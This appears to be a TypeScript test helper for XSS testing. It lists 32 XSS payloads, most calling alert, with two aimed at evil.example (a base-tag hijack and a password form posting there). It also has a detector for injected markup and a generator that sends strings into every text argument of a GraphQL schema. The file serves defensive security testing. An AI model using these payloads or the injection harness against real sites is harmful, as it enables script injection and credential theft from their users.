import { readFileSync } from 'node:fs';
import {
  buildSchema,
  getNamedType,
  isInputObjectType,
  isListType,
  isNonNullType,
  isObjectType,
  isRequiredArgument,
  isRequiredInputField,
  type GraphQLField,
  type GraphQLInputType,
  type GraphQLObjectType,
} from 'graphql';

/** XSS payloads for markup, attributes, styles, URLs and scripts; each calls `alert` if it runs. */
export const PAYLOADS = [
  '<script>alert(1)</script>',
  '</script><script>alert(2)</script>',
  '</title><script>alert(3)</script>',
  '</textarea><script>alert(4)</script>',
  '</style><script>alert(5)</script>',
  '<!--<script>alert(6)//-->',
  '<img src=x onerror=alert(7)>',
  '"><img src=x onerror=alert(8)>',
  "'><img src=x onerror='alert(9)'>",
  '<svg onload=alert(10)>',
  '<svg><script href="data:,alert(11)"></script></svg>',
  '<svg><animate onbegin=alert(12) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(13)>',
  '<iframe srcdoc="<script>parent.alert(14)</script>"></iframe>',
  '<iframe src="javascript:parent.alert(15)"></iframe>',
  '<object data="data:text/html,<script>alert(16)</script>"></object>',
  '<embed src="javascript:alert(17)">',
  '<a href="javascript:alert(18)">x</a>',
  'javascript:alert(19)',
  'JaVaScRiPt:alert(20)//https://shop.example/',
  '\u0001java\tscript:alert(21)',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgyMik8L3NjcmlwdD4=',
  '" onmouseover="alert(23)" x="',
  "' autofocus onfocus='alert(24)",
  '" style="position:fixed;inset:0;background:url(javascript:alert(25))',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(27)">',
  '<form action="https://evil.example/"><input name=password autofocus onfocus=alert(28)>',
  '<template shadowrootmode=open><script>alert(29)</script></template>',
  '{"__html":"<img src=x onerror=alert(30)>"}',
  '{{constructor.constructor("alert(31)")()}}${alert(31)}',
  '\u2028</script\u2029><script>alert(32)</script>',
] as const;

/** Elements that were injected by a payload, so others than the page's `ownScript`. Also runs in a page, so it must not use anything outside the function. */
export function injectedInto(page: Document, ownScript: string): string[] {
  const findings: string[] = [];
  const report = (element: Element) => findings.push(element.outerHTML.slice(0, 200));
  for (const script of page.querySelectorAll('script')) {
    const isOwn = script.text === ownScript && !script.hasAttributes();
    const isData = /^application\/(ld\+)?json$/.test(script.type);
    if (!isOwn && !isData && !/^\/(assets|payment\/sandbox)\//.test(script.getAttribute('src') ?? ''))
      report(script);
  }
  page
    .querySelectorAll('iframe, object, embed, base, math, template, meta[http-equiv=refresh]')
    .forEach(report);
  for (const element of page.querySelectorAll('*')) {
    for (const { name, value } of element.attributes) {
      if (name.startsWith('on')) report(element);
      const isAddress = ['href', 'src', 'action', 'formaction', 'data', 'poster', 'xlink:href'].includes(
        name,
      );
      // React sets this URL for forms whose action is a function.
      if (/^javascript:throw new Error\('(A )?React form (was )?unexpectedly submitted/.test(value)) continue;
      if (isAddress && /^(javascript|data:text|vbscript)/i.test(value.replace(/[\s\p{Cc}]/gu, '')))
        report(element);
      if (name === 'action' && value.includes('evil')) report(element);
      if (name === 'style' && /url\(|fixed/.test(value)) report(element);
    }
  }
  return findings;
}

/** Fields on the way to an argument. */
const MAX_DEPTH = 2;
/** A text argument: where it stands, and an operation that sends it. */
export interface TextArgument {
  coordinate: string;
  document: string;
  variables(text: string): Record<string, unknown>;
}

/** A small valid value of an input. */
function exampleOf(type: GraphQLInputType): unknown {
  if (isNonNullType(type)) return exampleOf(type.ofType);
  if (isListType(type)) return [exampleOf(type.ofType)];
  if (!isInputObjectType(type)) return String(type) === 'Int' ? 1 : '1101';
  const required = Object.values(type.getFields()).filter(isRequiredInputField);
  return Object.fromEntries(required.map((field) => [field.name, exampleOf(field.type)]));
}

/** Each text within an input, as its path and a function that puts a text there. */
function textsIn(type: GraphQLInputType): { path: string; put(text: string): unknown }[] {
  if (isNonNullType(type)) return textsIn(type.ofType);
  if (isListType(type))
    return textsIn(type.ofType).map(({ put, ...text }) => ({ ...text, put: (sent) => [put(sent)] }));
  if (!isInputObjectType(type))
    return ['String', 'ID'].includes(String(type)) ? [{ path: '', put: (text) => text }] : [];
  return Object.values(type.getFields()).flatMap((field) =>
    textsIn(field.type).map(({ path, put }) => ({
      path: `.${field.name}${path}`,
      put: (text) => ({ ...(exampleOf(type) as object), [field.name]: put(text) }),
    })),
  );
}

/** A field with small values of its required arguments, to reach what is within it; only ids are such arguments. */
const reach = ({ name, args }: GraphQLField<unknown, unknown>): string => {
  const required = args.filter(isRequiredArgument).map((argument) => `${argument.name}: "1101"`);
  return required.length > 0 ? `${name}(${required.join(', ')})` : name;
};

/** The text arguments of a type's fields, and of the objects that they lead to. */
function textArgumentsOf(
  type: GraphQLObjectType,
  wrap: (selection: string) => string = (selection) => selection,
  depth = 0,
): TextArgument[] {
  return Object.values(type.getFields()).flatMap((field) => {
    const inner = getNamedType(field.type);
    const isNested = isObjectType(inner) && type.name !== 'Mutation' && depth < MAX_DEPTH;
    const nested = isNested
      ? textArgumentsOf(inner, (text) => wrap(`${reach(field)} { ${text} }`), depth + 1)
      : [];
    const own = field.args.flatMap((argument) =>
      textsIn(argument.type).map(({ path, put }) => {
        const args = field.args.filter((other) => other === argument || isRequiredArgument(other));
        const declared = args.map(({ name, type: argumentType }) => `$${name}: ${String(argumentType)}`);
        const given = args.map(({ name }) => `${name}: $${name}`);
        const call = `${field.name}(${given.join(', ')})${isObjectType(inner) ? ' { __typename }' : ''}`;
        const keyword = type.name === 'Mutation' ? 'mutation' : 'query';
        return {
          coordinate: `${type.name}.${field.name}(${argument.name}${path})`,
          document: `${keyword} (${declared.join(', ')}) { ${wrap(call)} }`,
          variables: (text: string) => ({
            ...Object.fromEntries(args.map((other) => [other.name, exampleOf(other.type)])),
            [argument.name]: put(text),
          }),
        };
      }),
    );
    return [...own, ...nested];
  });
}

const schema = buildSchema(readFileSync('schema.graphql', 'utf8'));
/** Each text argument of the schema once, by the shortest way that leads to it. */
export const TEXT_ARGUMENTS = [schema.getQueryType(), schema.getMutationType()]
  .flatMap((type) => (type ? textArgumentsOf(type) : []))
  .sort((a, b) => a.document.length - b.document.length)
  .filter(
    ({ coordinate }, index, all) => all.findIndex((other) => other.coordinate === coordinate) === index,
  );
